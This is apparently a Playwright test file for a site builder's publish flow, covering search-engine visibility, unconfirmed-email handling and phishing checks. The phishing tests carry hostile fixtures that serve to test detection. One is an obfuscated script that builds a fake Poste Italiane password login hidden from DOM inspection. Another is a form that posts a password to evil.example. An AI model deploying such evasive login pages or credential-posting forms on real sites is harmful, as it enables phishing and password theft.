import { expect, test } from '@playwright/test';
import { openSite } from './open-site.ts';

const PAGE =
  '<!doctype html><html lang="en"><head><title>Forno</title></head><body><h1>Forno Rossi</h1></body></html>';

test.use({ viewport: { width: 1440, height: 900 } });

test('publishing saves, says where the site is, and can be taken back', async ({ page }) => {
  const uuid = await openSite(page, PAGE);
  const robots = async () =>
    (await page.request.get(`/s/${uuid}/index.html`)).headers()['x-robots-tag'];
  expect(await robots()).toBe('noindex');
  await page.getByRole('button', { name: 'Publish', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Publish' });
  await expect(dialog.getByRole('status')).toHaveText('Published – visible to search engines');
  for (const name of [/\/s\//, 'View site'])
    await expect(dialog.getByRole('link', { name })).toHaveAttribute(
      'href',
      new RegExp(`/s/${uuid}/index.html$`),
    );
  expect(await robots()).toBeUndefined();
  const shared = async () => await (await page.request.get(`/s/${uuid}/index.html`)).text();
  await expect
    .poll(shared, { timeout: 30_000 })
    .toMatch(/<meta property="og:image" content="http[^"]+\/sharing\/[0-9a-f]{20}\.jpg">/);
  const address = /og:image" content="([^"]+)"/.exec(await shared())?.[1] ?? '';
  const picture = await page.request.get(address);
  expect([picture.status(), picture.headers()['content-type']]).toEqual([200, 'image/jpeg']);
  await dialog.getByRole('button', { name: 'Hide from search engines' }).click();
  await expect(dialog.getByRole('status')).toContainText('Hidden from search engines');
  expect(await robots()).toBe('noindex');
  await dialog.getByRole('button', { name: 'Publish' }).click();
  await expect(dialog.getByRole('status')).toHaveText('Published – visible to search engines');
});

test('whoever has not confirmed their address is told so, and gets the mail again', async ({
  page,
}) => {
  const uuid = await openSite(page, PAGE);
  await page.route(`**/api/site/${uuid}/publication`, (route) =>
    route.fulfill({
      status: 403,
      json: { ok: false, code: 'auth.unverified', message: 'Confirm your address first.' },
    }),
  );
  await page.getByRole('button', { name: 'Publish', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Publish' });
  await expect(dialog.getByRole('status')).toContainText('confirm your address first');
  const sent = page.waitForResponse('**/api/user/confirmation');
  await dialog.getByRole('button', { name: 'Send the mail again' }).click();
  expect((await sent).status()).toBe(200);
  await page.unroute(`**/api/site/${uuid}/publication`);
  await dialog.getByRole('button', { name: 'Publish now' }).click();
  await expect(dialog.getByRole('status')).toHaveText('Published – visible to search engines');
});

/** Nothing of it is in the source: name and form come from a file, in pieces, after the page has loaded. */
const BUILDS_LATER = `<!doctype html><html lang="en"><head><title>Forno</title></head><body><main></main><script>
const parts = ['word', 'pass', 'Poste', 'Italiane'];
Element.prototype.outer = 1;
Object.defineProperty(document.documentElement, 'outerHTML', { value: '<p>Honest</p>' });
Object.defineProperty(Element.prototype, 'outerHTML', { get: () => '<p>Honest</p>' });
NodeList.prototype[Symbol.iterator] = () => [][Symbol.iterator]();
addEventListener('load', () => setTimeout(() => {
  const tag = ['H1', 'INPUT'];
  const heading = document.createElement(tag[0]);
  const field = document.createElement(tag[1]);
  heading.append(parts[2], ' ', parts[3]);
  field.type = parts[1] + parts[0];
  const box = document.createElement('div');
  document.querySelector('main').append(box);
  box.attachShadow({ mode: 'closed' }).append(heading, field);
}, 300));
</script></body></html>`;

test('a page that builds a login of a bank by script is not published without review', async ({
  page,
}) => {
  const uuid = await openSite(page, BUILDS_LATER);
  const open = () => page.request.get(`/s/${uuid}/index.html`);
  expect((await open()).status()).toBe(200);
  await page.getByRole('button', { name: 'Publish', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Publish' });
  await expect(dialog.getByRole('status')).toHaveText(
    'Not published – this page looks like a deception',
  );
  await expect(dialog.getByRole('listitem')).toHaveText([
    'It asks for a password, a code or card data.',
    'It speaks in the name of a known brand (Poste).',
  ]);
  expect((await open()).headers()['x-robots-tag']).toBe('noindex');
  await dialog.getByRole('button', { name: 'Send it for review' }).click();
  await expect(dialog.getByRole('status')).toHaveText('Held back until we have looked at it');
  expect((await open()).status()).toBe(403);
  await page.reload();
  await page.getByRole('button', { name: 'Publish', exact: true }).click();
  await expect(dialog.getByRole('status')).toContainText('looks like a deception');
});

test('a page that sends a password elsewhere by a script of its own is published with the strip', async ({
  page,
}) => {
  const uuid = await openSite(page, PAGE);
  const script = `document.body.insertAdjacentHTML('beforeend', ['<form action="https://evil.example/x"><input ty', 'pe="pass', 'word"></form>'].join(''))`;
  const html = PAGE.replace('</body>', '<script src="app.js"></script></body>');
  const saved = await page.request.post(`/api/s/${uuid}`, {
    data: { html, assets: { 'app.js': script } },
  });
  expect(saved.status()).toBe(200);
  await page.goto(`/builder?site=${uuid}`);
  await page.getByRole('button', { name: 'Publish', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Publish' });
  await expect(dialog.getByRole('status')).toContainText('could be taken for a deception');
  await dialog.getByRole('button', { name: 'Publish with a warning' }).click();
  await expect(dialog.getByRole('status')).toHaveText('Published with a warning');
  const visitor = await page.context().newPage();
  await visitor.goto(`/s/${uuid}/index.html`);
  await expect(visitor.getByRole('note')).toContainText('Never enter passwords');
});

test('a page that does not answer is judged by its source alone', async ({ page }) => {
  const busy = PAGE.replace('</body>', '<script>for (;;) {}</script></body>');
  const uuid = await openSite(page, PAGE);
  expect((await page.request.post(`/api/s/${uuid}`, { data: { html: busy } })).status()).toBe(200);
  await page.goto(`/builder?site=${uuid}`);
  await page.getByRole('button', { name: 'Publish', exact: true }).click();
  await expect(page.getByRole('dialog', { name: 'Publish' }).getByRole('status')).toHaveText(
    'Published – visible to search engines',
    { timeout: 25_000 },
  );
});
